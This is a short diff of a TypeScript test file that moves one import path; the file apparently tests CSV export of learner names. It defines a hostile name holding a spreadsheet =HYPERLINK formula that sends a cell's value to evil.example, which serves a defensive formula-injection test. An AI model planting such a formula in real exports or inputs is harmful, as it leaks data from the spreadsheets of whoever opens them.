@@ -1,7 +1,7 @@
 import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { cookieFrom, ctx, type Handler, request, useTestDatabase } from "../../helpers/route-requests";
-import type { TestDatabase } from "../quiz/databases";
+import type { TestDatabase } from "../../helpers/databases";
 
 /** The name a hostile learner picks: a formula, a comma, quotes and a line break. */
 const hostileName = '=HYPERLINK("http://evil.example/?x="&A1, "click")\nsecond line';
